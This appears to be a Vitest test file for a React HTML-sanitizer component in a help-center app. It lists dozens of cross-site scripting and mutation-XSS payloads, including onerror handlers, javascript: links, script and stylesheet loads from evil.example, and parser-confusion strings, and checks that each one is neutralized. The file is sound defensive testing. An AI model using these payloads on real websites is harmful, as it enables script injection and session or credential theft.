import { render, screen } from '@testing-library/react';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import { SafeHtml } from '../../src/components/content/SafeHtml';
import { sanitize } from '../../src/components/content/sanitize';

const origin = { base: 'https://help.example/kb/', imageHosts: ['help.example', 'localhost:3000'] };
const read = (html: string) => {
  const holder = document.createElement('div');
  holder.append(sanitize(html, origin).cloneNode(true));
  return holder;
};

const tags =
  /^(P|BR|HR|DIV|SPAN|BLOCKQUOTE|PRE|FIGURE|FIGCAPTION|H[2-6]|A|STRONG|B|EM|I|U|S|SMALL|SU[BP]|MARK|Q|CITE|ABBR|CODE|KBD|SAMP|VAR|[UO]L|LI|D[LTD]|TABLE|CAPTION|COL|COLGROUP|THEAD|TBODY|TFOOT|T[RHD]|IMG)$/;
const attributes =
  /^(href|src|alt|title|width|height|colspan|rowspan|scope|start|reversed|lang|dir|rel|target|loading|referrerpolicy)$/;

/** Everything there is belongs to the list, links lead to the web or a mailbox, pictures come from known hosts. */
function expectHarmless(holder: HTMLElement) {
  for (const element of holder.querySelectorAll('*')) {
    expect(element.tagName).toMatch(tags);
    for (const { name } of element.attributes) expect(name).toMatch(attributes);
  }
  for (const link of holder.querySelectorAll('a')) expect(link.href).toMatch(/^(https?:\/\/|mailto:)/);
  for (const image of holder.querySelectorAll('img'))
    expect(origin.imageHosts).toContain(new URL(image.src).host);
}

const ran = vi.fn();
beforeEach(() => {
  ran.mockClear();
  vi.stubGlobal('alert', ran);
});

/** In the manner of DOMPurify's own samples and of the cheat sheets. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '<img src="https://help.example/a.png" onload="alert(1)" onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="">',
  '<img srcset="https://evil.example/a.png 1x" sizes="1px">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  '<image src="https://evil.example/a.png">',
  '<input type=image src="https://evil.example/a.png" onerror=alert(1)>',
  '<table background="https://evil.example/a.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.example/a.png">x',
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/a.png)}</style>',
  '<p style="background:url(https://evil.example/a.png)">x</p>',
  '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" autoplay onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping" onclick="alert(1)">x</a>',
  '<p id="page" name="root" class="modal show" data-bs-toggle="modal" aria-label="x" role="alert" tabindex="0" contenteditable>x</p>',
  '<div is="x-y" slot="a" part="b" onfocus=alert(1) autofocus tabindex=1>x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignobject><p><style></foreignobject><img src=x onerror=alert(1)></style></p></svg>',
  '<a href="https://x.example" title="</a><img src=x onerror=alert(1)>">x</a>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>',
  '<div><!--[if gte IE 4]><script>alert(1)</script><![endif]--></div>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  '<img src=1\u0000 onerror=alert(1)>',
];

describe('FAULT-68 hostile content', () => {
  test.each(hostile)('%s is made harmless, and stays so when it is read again', (html) => {
    const first = read(html);
    expectHarmless(first);
    document.body.append(first);
    // What a browser would make of it if it were written out and parsed anew.
    const again = new DOMParser().parseFromString(first.innerHTML, 'text/html');
    expectHarmless(again.body);
    expect(read(first.innerHTML).innerHTML).toBe(first.innerHTML);
    expect(ran).not.toHaveBeenCalled();
    first.remove();
  });

  test('headings come below the title of what holds them; the page gets no second h1', () => {
    expect(read('<h1>Title <em>of theirs</em></h1><h2>Part</h2><h6>Least</h6>').innerHTML).toBe(
      '<h2>Title <em>of theirs</em></h2><h3>Part</h3><h6>Least</h6>',
    );
  });

  test('what a text is made of stays as it is', () => {
    const text =
      '<p>One <strong>two</strong> <em>three</em> <code>four</code></p>' +
      '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl>' +
      '<table><caption>t</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">e</td></tr></tbody></table>' +
      '<blockquote>q</blockquote><pre>p</pre>';
    expect(read(text).innerHTML).toBe(text);
  });
});

describe('links', () => {
  test('FAULT-68 lead to a new tab that knows nothing of this one', () => {
    const link = read('<a href="https://a.example/x" target="_top" rel="opener">x</a>').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://a.example/x');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'ftp://a.example/x',
    'tel:5550100',
    'sms:5550100',
    '#/user',
    '#top',
    '',
  ])('FAULT-71 %j becomes plain text', (href) => {
    expect(read(`<p>Read <a href="${href}">this <b>now</b></a>.</p>`).innerHTML).toBe(
      '<p>Read this <b>now</b>.</p>',
    );
  });

  test('FAULT-71 a mailbox and an address of the article’s own site are links', () => {
    const [mail, own] = read('<a href="mailto:a@b.example">x</a><a href="../more">y</a>').querySelectorAll(
      'a',
    );
    expect(mail?.getAttribute('href')).toBe('mailto:a@b.example');
    expect(own?.getAttribute('href')).toBe('https://help.example/more');
  });
});

describe('FAULT-69 pictures', () => {
  test.each([
    ['https://help.example/a.png', 'https://help.example/a.png'],
    ['../pictures/a.svg', 'https://help.example/pictures/a.svg'],
    ['http://localhost:3000/a.png', 'http://localhost:3000/a.png'],
  ])('from a known host are shown: %s', (src, shown) => {
    const image = read(`<img src="${src}" alt="A plan" width="48" height="22">`).querySelector('img');
    expect(image?.getAttribute('src')).toBe(shown);
    expect(image?.alt).toBe('A plan');
    expect(image?.getAttribute('loading')).toBe('lazy');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  test.each([
    'https://evil.example/pixel.gif',
    'https://help.example.evil.example/a.png',
    'https://help.example@evil.example/a.png',
    'https://sub.help.example/a.png',
    '//evil.example/a.png',
    'https://help.example:8443/a.png',
    'http://localhost/a.png',
    'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
    'blob:https://help.example/1',
    '',
  ])('from any other are gone: %j', (src) => {
    expect(read(`<p>a<img src="${src}" alt="b">c</p>`).innerHTML).toBe('<p>ac</p>');
  });
});

describe('the component', () => {
  const notice = <p>Nothing to read</p>;

  test('FAULT-68 shows the content, and follows when it changes', () => {
    const { rerender } = render(
      <SafeHtml html="<p>One<script>alert(1)</script></p>" {...origin} empty={notice} />,
    );
    expect(screen.getByText('One')).toBeInTheDocument();
    rerender(<SafeHtml html="<p>Two</p>" {...origin} empty={notice} />);
    expect(screen.getByText('Two')).toBeInTheDocument();
    expect(screen.queryByText('One')).not.toBeInTheDocument();
  });

  test.each([
    '',
    '   ',
    '<p>&nbsp;</p>',
    '<script>alert(1)</script>',
    '<iframe src="https://evil.example"></iframe>',
    '<p><img src="https://evil.example/pixel.gif" alt="x"></p>',
  ])('FAULT-70 %j leaves nothing, and says so', (html) => {
    render(<SafeHtml html={html} {...origin} empty={notice} />);
    expect(screen.getByText('Nothing to read')).toBeInTheDocument();
  });

  test('a picture alone is something', () => {
    render(
      <SafeHtml html='<img src="https://help.example/a.png" alt="A plan">' {...origin} empty={notice} />,
    );
    expect(screen.getByRole('img', { name: 'A plan' })).toBeInTheDocument();
  });

  test('text without markup stays text', () => {
    render(<SafeHtml html={'3 < 4 & 5'} {...origin} empty={notice} />);
    expect(screen.getByText('3 < 4 & 5')).toBeInTheDocument();
  });
});
